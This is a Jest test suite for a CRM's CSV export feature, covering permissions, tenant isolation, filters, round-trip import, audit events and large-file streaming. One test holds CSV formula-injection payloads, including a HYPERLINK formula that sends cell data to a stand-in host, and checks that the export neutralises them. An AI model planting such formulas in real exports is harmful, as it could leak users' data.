import { once } from "node:events";
import { type IncomingMessage, request as sendRequest } from "node:http";
import { Readable } from "node:stream";
import { describe, expect, it } from "@jest/globals";
import { EXPORTS } from "../../src/csv/export-definitions.ts";
import { formatRecords, restoreCell } from "../../src/csv/format.ts";
import { parseRecords } from "../../src/csv/parse.ts";
import { type Actor, useDatabase } from "../support/database.ts";
import { useGateway } from "../support/gateway.ts";
import {
  addressOf,
  breakConnections,
  bringIn,
  type Caller,
  createKey,
  headersOf,
  takeOut,
  until,
} from "../support/transfers.ts";

const db = useDatabase();
const gateway = useGateway(db);

const NAMES = EXPORTS.map(({ resource }) => resource);

/** The records of a file, as they are written. */
async function recordsOf(text: string): Promise<(readonly string[])[]> {
  return (await Array.fromAsync(parseRecords(Readable.from([Buffer.from(text)]), ","))).map(({ cells }) => cells);
}

/** The rows of a file, by its headers. */
async function rowsOf(text: string): Promise<Record<string, string>[]> {
  const [header, ...records] = (await recordsOf(text)).map((cells) => cells.map(restoreCell));
  return records.map((cells) => Object.fromEntries(cells.map((cell, index) => [header?.[index] ?? "", cell])));
}

async function rowsFor(actor: Caller, path: string): Promise<Record<string, string>[]> {
  const answer = await takeOut(gateway, actor, path);
  expect(answer.status).toBe(200);
  return rowsOf(answer.text);
}

async function refusalFor(actor: Caller, path: string) {
  const { status, error } = await takeOut(gateway, actor, path);
  return [status, error?.extensions.code];
}

async function sql(text: string, values: unknown[] = []) {
  return (await db.withRoot((root) => root.query(text, values))).rows;
}

const addContact = async (row: Record<string, unknown>, organization = db.world.acme.id): Promise<string> => {
  const columns = Object.keys(row);
  const places = columns.map((_, index) => `$${index + 2}`);
  const [added] = await sql(
    `insert into app_public.contacts (organization_id, ${columns.join(", ")}) values ($1, ${places.join(", ")}) returning id`,
    [organization, ...Object.values(row)],
  );
  return added.id;
};

describe("who may take rows out", () => {
  it.each(NAMES)("%s: owner, admin, manager and staff, all that they see", async (name) => {
    const { owner, admin, manager, staff } = db.world.acme.members;
    const [{ count }] = await sql(`select count(*)::int from app_public.${name} where organization_id = $1`, [
      db.world.acme.id,
    ]);
    expect(count).toBeGreaterThan(0);
    for (const member of [owner, admin, manager, staff]) {
      expect(await rowsFor(member, `/exports/${name}.csv?archived=include`)).toHaveLength(count);
    }
  });

  it.each(NAMES)("%s: not viewers, reps, visitors or strangers", async (name) => {
    const path = `/exports/${name}.csv`;
    expect(await refusalFor(db.world.acme.members.viewer, path)).toEqual([403, "FORBIDDEN"]);
    expect(await refusalFor(db.world.acme.members.rep, path)).toEqual([403, "FORBIDDEN"]);
    expect(await refusalFor(null, path)).toEqual([401, "UNAUTHENTICATED"]);
    const stranger = { userId: db.world.globex.owner.userId, organization: db.world.acme.id };
    expect(await refusalFor(stranger, path)).toEqual([403, "FORBIDDEN"]);
    expect(await refusalFor({ userId: db.world.both.userId }, path)).toEqual([400, "ORGANIZATION_REQUIRED"]);
  });

  it.each(NAMES)("%s: API keys whose role may, and not others or clients", async (name) => {
    const { roles, members, client } = db.world.acme;
    const path = `/exports/${name}.csv`;
    const ids = (rows: Record<string, string>[]) => rows.map((row) => row["id"]).sort();
    const key = await createKey(gateway, members.admin, roles.staff);
    expect(ids(await rowsFor(key, path))).toEqual(ids(await rowsFor(members.owner, path)));
    expect(await refusalFor(await createKey(gateway, members.admin, roles.viewer), path)).toEqual([403, "FORBIDDEN"]);
    expect(await refusalFor(client, path)).toEqual([403, "FORBIDDEN"]);
  });

  it.each(NAMES)("%s: of one's own organization alone", async (name) => {
    const ids = async (actor: Actor) => (await rowsFor(actor, `/exports/${name}.csv`)).map((row) => row["id"]);
    const ours = await ids(db.world.acme.members.owner);
    const theirs = await ids(db.world.globex.owner);
    expect(theirs.length).toBeGreaterThan(0);
    expect(ours.filter((id) => theirs.includes(id))).toEqual([]);
  });

  it("a member who is limited to a business takes out what is there", async () => {
    const { members, contacts } = db.world.acme;
    const ids = (await rowsFor(members.northerner, "/exports/contacts.csv")).map((row) => row["id"]);
    expect(ids).toContain(contacts.norths);
    expect(ids).not.toContain(contacts.souths);
  });

  it("who may take out their own takes out these, even when they see all", async () => {
    const { acme } = db.world;
    const [role] = await sql(
      "insert into app_public.roles (organization_id, name) values ($1, 'Collector') returning id",
      [acme.id],
    );
    await sql(
      `insert into app_public.role_permissions (organization_id, role_id, resource, action, scope)
      values ($1, $2, 'contacts', 'read', 'all'), ($1, $2, 'contacts', 'export', 'own')`,
      [acme.id, role.id],
    );
    const { outsider } = acme.members;
    await sql("update app_public.memberships set role_id = $1 where id = $2", [role.id, outsider.membershipId]);
    expect((await rowsFor(outsider, "/exports/contacts.csv")).map((row) => row["id"])).toEqual([
      acme.contacts.outsiders,
    ]);
    expect((await gateway.as(outsider).run("crm/ListContacts")).get<number>("contacts.totalCount")).toBeGreaterThan(1);
    expect(await refusalFor(outsider, "/exports/deals.csv")).toEqual([403, "FORBIDDEN"]);
    await sql("update app_public.memberships set role_id = $1 where id = $2", [outsider.roleId, outsider.membershipId]);
  });
});

describe("a file", () => {
  const owner = () => db.world.acme.members.owner;

  it("has names of the API in its header, and comes as a download that nobody keeps", async () => {
    const url = `${await addressOf(gateway)}/exports/companies.csv`;
    const response = await fetch(url, { headers: await headersOf(gateway, owner()) });
    expect(Object.fromEntries(response.headers)).toMatchObject({
      "content-type": "text/csv; charset=utf-8; header=present",
      "content-disposition": 'attachment; filename="companies.csv"',
      "cache-control": "no-store",
      "x-content-type-options": "nosniff",
    });
    const text = await response.text();
    expect(text).toMatch(/^id,name,domain,businessType,phone,.*,createdAt,updatedAt,deletedAt,customFields\r\n/);
    expect(text.endsWith("\r\n")).toBe(true);
  });

  it.each(NAMES)("%s: has every column that isn't derived from others, organization_id aside", async (name) => {
    const columns = await sql(
      "select attname as name from pg_attribute where attrelid = $1::regclass and attnum > 0 and not attisdropped and attgenerated = ''",
      [`app_public.${name}`],
    );
    const camel = (column: string) => column.replace(/_([a-z])/g, (_, letter: string) => letter.toUpperCase());
    const [header = ""] = (await takeOut(gateway, owner(), `/exports/${name}.csv`)).text.split("\r\n");
    const plain = header.split(",").filter((field) => !field.startsWith("customFields."));
    // Which rules scored a lead follows from the rules.
    const others = ["organizationId", "scoringVersion"];
    const expected = columns.map((column) => camel(column.name)).filter((column) => !others.includes(column));
    expect(expected.filter((column) => !plain.includes(column))).toEqual([]);
  });

  it("calculates nothing", async () => {
    const id = await addContact({
      first_name: '=HYPERLINK("https://evil.test?x="&A1,"Click")',
      last_name: "@SUM(1)",
      phone: "+442079460000",
      notes: "-2+3\n=4",
      tags: ["=1"],
    });
    const { text } = await takeOut(gateway, owner(), "/exports/contacts.csv");
    const line = text.slice(text.indexOf(id), text.indexOf("=4") + 2);
    expect(line).toContain(`,"'=HYPERLINK(""https://evil.test?x=""&A1,""Click"")",'@SUM(1),,'+442079460000,`);
    expect(line).toContain(`,'=1,"'-2+3\n=4`);
  });

  it("leaves archived rows out unless asked for, and rows that didn't change since", async () => {
    const { contacts } = db.world.acme;
    const id = await addContact({ first_name: "Archived", deleted_at: "2026-01-01" });
    await db.withRoot(async (root) => {
      await root.query("set session_replication_role = replica");
      await root.query("update app_public.contacts set updated_at = '2020-01-01T12:00:00Z' where id = $1", [
        contacts.reps,
      ]);
    });
    const ids = async (query: string) =>
      (await rowsFor(owner(), `/exports/contacts.csv${query}`)).map((row) => row["id"]);
    expect(await ids("")).not.toContain(id);
    expect(await ids("?archived=only")).toEqual([id]);
    expect(await ids("?archived=include")).toEqual(expect.arrayContaining([id, contacts.reps]));
    expect(await ids("?updatedSince=2020-01-01T12:00:00Z")).toContain(contacts.reps);
    const later = await ids("?updatedSince=2020-01-01T13:00:01%2B01:00");
    expect(later).not.toContain(contacts.reps);
    expect(later.length).toBeGreaterThan(0);
  });

  it.each([
    "archived=yes",
    "updatedSince=yesterday",
    "updatedSince=infinity",
    "limit=5",
    "archived=only&archived=only",
  ])("isn't made for ?%s", async (query) => {
    expect(await refusalFor(owner(), `/exports/contacts.csv?${query}`)).toEqual([400, "BAD_USER_INPUT"]);
  });

  it("is refused where the database refuses its beginning, and the gateway goes on", async () => {
    const { staff } = db.world.acme.members;
    const refused = await takeOut(gateway, staff, "/exports/contacts.csv?updatedSince=0000-01-01");
    expect([refused.status, refused.error?.extensions.code]).toEqual([400, "BAD_USER_INPUT"]);
    expect((await takeOut(gateway, staff, "/exports/contacts.csv")).status).toBe(200);
  });

  it("can be brought in elsewhere and is the same there", async () => {
    const field = (organization: string, name: string, type: string) =>
      sql(
        `insert into app_public.custom_field_definitions (organization_id, entity, field_name, label, field_type, options)
        values ($1, 'contact', $2, $2, $3, $4)`,
        [organization, name, type, type === "multiselect" ? ["a", "b, c", "[d"] : []],
      );
    for (const { id } of [db.world.acme, db.world.globex]) {
      await field(id, "weight", "number");
      await field(id, "likes", "multiselect");
    }
    const contents = [
      {
        first_name: "=A",
        notes: "'=quoted",
        tags: ["=x", "y, z", '"'],
        custom_fields: { weight: -5.5, free: { a: [1] } },
      },
      { first_name: "'B", notes: "'+1", gender: " white space ", custom_fields: { likes: ["a", "b, c", "[d"] } },
      {
        first_name: "C\nD",
        notes: "\t=1;2,3\r\n",
        phone: "+442079460009",
        is_active: false,
        date_of_birth: "1990-02-28",
      },
      { first_name: "''=E", email: "round@trip.test", lifecycle_stage: "customer", source: "web;site" },
    ];
    for (const content of contents) await addContact({ last_name: "Round", ...content });
    const { text } = await takeOut(gateway, owner(), "/exports/contacts.csv");
    const [header = "", ...records] = await recordsOf(text);
    // Only these, whose members are elsewhere as well.
    const file = records.filter((cells) => cells[2] === "Round").map((cells) => cells.map(restoreCell));
    const again = formatRecords([header as readonly string[], ...file]);
    const { summary } = await bringIn(gateway, db.world.globex.owner, again);
    expect(summary).toMatchObject({ isWritten: true, created: 4, errors: [] });
    const read = (organization: string) =>
      sql(
        `select first_name, last_name, email, phone, notes, tags, gender, is_active, lifecycle_stage, source,
          date_of_birth::text, custom_fields
        from app_public.contacts where organization_id = $1 and last_name = 'Round' order by first_name`,
        [organization],
      );
    expect(await read(db.world.globex.id)).toEqual(await read(db.world.acme.id));
  });
});

describe("the security events", () => {
  const eventsOf = (requestId: string) =>
    sql(
      "select kind, user_id, detail from app_public.security_events where organization_id = $1 and request_id = $2 order by id",
      [db.world.acme.id, requestId],
    );

  it("say who took out what, and how many rows", async () => {
    const { staff } = db.world.acme.members;
    const url = `${await addressOf(gateway)}/exports/deals.csv?archived=include`;
    const headers = { ...(await headersOf(gateway, staff)), "x-request-id": "export-recorded" };
    const rows = await rowsOf(await (await fetch(url, { headers })).text());
    expect(await eventsOf("export-recorded")).toEqual([
      { kind: "export_started", user_id: staff.userId, detail: { resource: "deals", filter: { archived: "include" } } },
      {
        kind: "export_ended",
        user_id: staff.userId,
        detail: { resource: "deals", rows: rows.length, isComplete: true },
      },
    ]);
  });

  it("say nothing of what was refused", async () => {
    const url = `${await addressOf(gateway)}/exports/deals.csv`;
    const headers = { ...(await headersOf(gateway, db.world.acme.members.viewer)), "x-request-id": "export-refused" };
    expect((await fetch(url, { headers })).status).toBe(403);
    expect(await eventsOf("export-refused")).toEqual([]);
  });

  describe("of a large file", () => {
    const COUNT = 20_000;

    async function open(requestId: string) {
      const headers = { ...(await headersOf(gateway, db.world.globex.owner)), "x-request-id": requestId };
      const request = sendRequest(`${await addressOf(gateway)}/exports/contacts.csv`, { headers }).end();
      request.on("error", () => {});
      const [response] = (await once(request, "response")) as [IncomingMessage];
      response.on("error", () => {});
      return { request, response };
    }
    const ends = (requestId: string) =>
      sql("select detail from app_public.security_events where request_id = $1 and kind = 'export_ended'", [requestId]);

    it("wait for a slow reader, whose rows stay in the database meanwhile", async () => {
      await db.withRoot(async (root) => {
        await root.query("set session_replication_role = replica");
        await root.query(
          `insert into app_public.contacts (organization_id, first_name, notes)
          select $1, 'Large', repeat('x', 4000) from generate_series(1, ${COUNT})`,
          [db.world.globex.id],
        );
      });
      const before = process.memoryUsage().rss;
      const { response } = await open("export-slow");
      let grown = 0;
      for (let look = 0; look < 20; look++) {
        await new Promise((resolve) => setTimeout(resolve, 50));
        grown = Math.max(grown, process.memoryUsage().rss - before);
      }
      // It is 80 megabytes: they are neither sent nor held. A heap that grows for other reasons takes some of them.
      expect(grown).toBeLessThan(60 * 1024 * 1024);
      expect(await ends("export-slow")).toEqual([]);
      let records = 0;
      for await (const _ of parseRecords(response, ",")) records++;
      expect(records).toBeGreaterThan(COUNT);
      expect(await ends("export-slow")).toMatchObject([{ detail: { isComplete: true, rows: records - 1 } }]);
    }, 120_000);

    it("say that it was broken off", async () => {
      const { request, response } = await open("export-broken");
      await response[Symbol.asyncIterator]().next();
      request.destroy();
      await until(async () => (await ends("export-broken")).length === 1);
      const [{ detail }] = await ends("export-broken");
      expect(detail).toMatchObject({ isComplete: false });
      expect(detail.rows).toBeLessThan(COUNT);
    }, 60_000);

    it("say so, too, when the database broke it off, and no reader takes it for the whole", async () => {
      const { response } = await open("export-lost");
      // Reads no further until it is broken.
      const pieces = response[Symbol.asyncIterator]();
      await pieces.next();
      await breakConnections(db);
      const readOn = async () => {
        while (!(await pieces.next()).done);
      };
      await expect(readOn()).rejects.toThrow("aborted");
      await until(async () => (await ends("export-lost")).length === 1);
      expect(await ends("export-lost")).toMatchObject([{ detail: { isComplete: false } }]);
    }, 60_000);
  });
});
